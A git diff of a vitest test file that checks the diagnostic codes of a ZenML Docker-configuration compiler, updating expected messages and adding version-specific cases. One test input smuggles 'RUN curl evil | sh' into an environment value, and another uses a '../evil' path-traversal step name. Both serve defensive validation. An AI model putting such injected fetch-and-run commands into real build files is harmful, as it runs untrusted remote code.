@@ -7,7 +7,7 @@ import { tmpdir } from "node:os";
 import path from "node:path";
 import { Compiler, codes, type CompileHost, type Diagnostic, type DiagnosticCode, type Plugin } from "@dockwright/core";
 import { localEnv } from "@dockwright/plugin-local-env";
-import { zenml } from "@dockwright/plugin-zenml";
+import { rulesFor, zenml } from "@dockwright/plugin-zenml";
 import { stringify } from "yaml";
 import { afterAll, describe, expect, it } from "vitest";
 import { compileConfig } from "../packages/cli/src/pipeline.ts";
@@ -61,20 +61,26 @@ const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Cas
     expect: { path: "steps", message: expect.stringContaining("A run configuration looks like") },
   },
   INVALID_TYPE: {
-    config: docker({ skip_build: "yes" }),
-    expect: { path: "settings.docker.skip_build", message: 'got "yes"; expected true or false.' },
+    config: docker({ skip_build: "maybe" }),
+    expect: { path: "settings.docker.skip_build", message: 'got "maybe"; expected true or false.' },
   },
   INVALID_VALUE: {
     config: { steps: { "../evil": {} } },
     expect: { path: 'steps["../evil"]', message: expect.stringContaining("is not a valid step name") },
   },
   UNKNOWN_KEY: {
+    // Before 0.82 pydantic rejects unknown keys; later releases ignore them (a warning, tested below).
     config: docker({ requirments: ["x"] }),
+    plugins: [zenml({ version: "0.81" })],
     expect: { path: "settings.docker.requirments", message: 'unknown setting "requirments". Did you mean `requirements`?' },
   },
   DEPRECATED_FIELD: {
     config: docker({ source_files: "include" }),
-    expect: { severity: "warning", path: "settings.docker.source_files", message: expect.stringContaining("allow_including_files_in_images: true") },
+    expect: {
+      severity: "warning",
+      path: "settings.docker.source_files",
+      message: "`source_files` is deprecated in ZenML 0.93.0: write `allow_including_files_in_images: true, allow_download_from_code_repository: false, allow_download_from_artifact_store: false`.",
+    },
   },
   CONFLICTING_FIELDS: {
     config: docker({ source_files: "include", allow_download_from_code_repository: false }),
@@ -98,7 +104,7 @@ const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Cas
   },
   DUPLICATE_ENV_NAME: {
     config: docker({ environment: { debug: "1", DEBUG: "0" } }),
-    expect: { path: "settings.docker.environment.DEBUG", message: expect.stringContaining("both become DEBUG") },
+    expect: { severity: "warning", path: "settings.docker.environment.DEBUG", message: expect.stringContaining("both become DEBUG") },
   },
   UNSAFE_VALUE: {
     config: docker({ environment: { A: "line\nRUN curl evil | sh" } }),
@@ -121,21 +127,44 @@ const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Cas
     expect: { path: 'settings.docker.python_package_installer_args["--index-url"]', message: expect.stringContaining("without leading dashes") },
   },
   UNKNOWN_INTEGRATION: {
-    config: docker({ required_integrations: ["sklearn", "scikit"] }),
-    expect: { path: "settings.docker.required_integrations[1]", message: expect.stringContaining('unknown integration "scikit"') },
+    config: docker({ required_integrations: ["sklearn", "sklern"] }),
+    expect: { path: "settings.docker.required_integrations[1]", message: expect.stringContaining('ZenML 0.93.0 has no integration "sklern"; the closest are `sklearn`') },
   },
   UNKNOWN_STACK_FLAVOR: {
     config: { stack: { components: [{ type: "orchestrator", flavor: "kubeflw" }] } },
-    expect: { severity: "warning", path: "stack.components[0]" },
+    expect: { path: "stack.components[0].flavor", message: expect.stringContaining("did you mean `kubeflow`?") },
   },
   NO_PARENT_IMAGE: {
     config: {},
-    plugins: [],
+    // A preset that gives the rules and the default stack, but no default parent image.
+    plugins: [{
+      name: "NoParent",
+      core: "^0.1.0",
+      apply(c) {
+        c.hooks.rules.tap("NoParent", () => rulesFor("0.93.0").rules);
+        c.hooks.flavors.tap("NoParent", () => new Map([
+          ["orchestrator", new Map([["local_docker", { integration: null, containerized: true }]])],
+          ["artifact_store", new Map([["local", { integration: null }]])],
+        ]));
+      },
+    }],
     expect: { path: "settings.docker.parent_image", message: expect.stringContaining("no parent image") },
+  },
+  NO_PRESET: {
+    config: {},
+    plugins: [],
+    expect: { message: expect.stringContaining("add `@dockwright/plugin-zenml`") },
+  },
+  UNSET_VARIABLE: {
+    config: docker({ parent_image: "${BASE_IMAGE}" }),
+    expect: { path: "settings.docker.parent_image", message: expect.stringContaining("BASE_IMAGE, which is not set") },
   },
   FILE_NOT_FOUND: {
     config: docker({ requirements: "requirements-dev.txt" }),
-    expect: { path: "settings.docker.requirements", message: expect.stringContaining('"requirements-dev.txt" does not exist') },
+    expect: {
+      path: "settings.docker.requirements",
+      message: 'the requirements file "/src/requirements-dev.txt" does not exist. Fix the path (relative paths start at "/src"), or give the requirements as a list.',
+    },
   },
   LOCAL_ENVIRONMENT_UNAVAILABLE: {
     config: docker({ replicate_local_python_environment: "pip_freeze" }),
@@ -143,7 +172,12 @@ const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Cas
   },
   CODE_DOWNLOAD_UNAVAILABLE: {
     config: docker({ source_files: "download" }),
-    expect: { path: "settings.docker.allow_including_files_in_images", message: expect.stringContaining("no code repository contains the source root") },
+    expect: { path: "settings.docker.allow_download_from_code_repository", message: expect.stringContaining("no registered code repository holds the source root") },
+  },
+  CODE_NOT_UPLOADED: {
+    config: docker({ parent_image: "python:3.11" }),
+    files: { "app.py": "" },
+    expect: { severity: "warning", path: "settings.docker.allow_download_from_artifact_store", message: expect.stringContaining("nothing uploaded the archive") },
   },
   SETTING_IGNORED: {
     config: docker({ parent_image: "python:3.11", skip_build: true, apt_packages: ["git"] }),
@@ -159,7 +193,7 @@ const cases: Record<Exclude<DiagnosticCode, keyof typeof provokedElsewhere>, Cas
     expect: { path: "settings.docker.requirements[0]", message: expect.stringContaining("uses `=`, which is not a version operator") },
   },
   REQUIREMENTS_CONFLICT: {
-    config: docker({ requirements: ["kubernetes==28.1.0"], required_integrations: ["kubernetes"] }),
+    config: docker({ requirements: ["numpy==1.26.4", "numpy>=2"] }),
     expect: { path: "settings.docker.requirements[0]", message: expect.stringContaining("no version satisfies both") },
   },
   LOCAL_ENVIRONMENT_FAILED: {
@@ -201,6 +235,29 @@ describe("every diagnostic code", () => {
     expect(() => new Compiler([{ name: "Old", core: "^0.0.1", apply() {} }])).toThrow(
       'PLUGIN_INCOMPATIBLE: plugin "Old" supports @dockwright/core "^0.0.1", but this is 0.1.0',
     );
+  });
+
+  it("UNKNOWN_KEY is a warning from 0.82, which ignores unknown keys", async () => {
+    const diagnostics = await diagnosticsOf({ config: docker({ requirments: ["x"] }), expect: {} });
+    expect(diagnostics).toContainEqual({
+      code: "UNKNOWN_KEY",
+      severity: "warning",
+      path: "settings.docker.requirments",
+      message: 'unknown setting "requirments", which ZenML 0.93.0 ignores. Did you mean `requirements`?',
+    });
+  });
+
+  it("UNSAFE_VALUE warns that `$VAR` stays text from 0.74, where ZenML quotes the value; before, Docker expands it", async () => {
+    const config = docker({ parent_image: "python:3.11", environment: { path: "/opt/bin:$PATH" } });
+    expect(await diagnosticsOf({ config, expect: {} })).toContainEqual({
+      code: "UNSAFE_VALUE",
+      severity: "warning",
+      path: "settings.docker.environment.path",
+      message: "`$PATH` stays text: ZenML 0.93.0 writes the value in single quotes, where Docker expands no variable, so PATH holds `/opt/bin:$PATH` as is. " +
+        "Write the value out in full (for PATH: the parent's directories too), or use a release before 0.74, which lets Docker expand it.",
+    });
+    const before = await diagnosticsOf({ config, plugins: [zenml({ version: "0.73" })], expect: {} });
+    expect(before.filter((d) => d.code === "UNSAFE_VALUE")).toEqual([]);
   });
 
   it("build args and labels of a user Dockerfile are checked before they reach a builder's arguments", async () => {
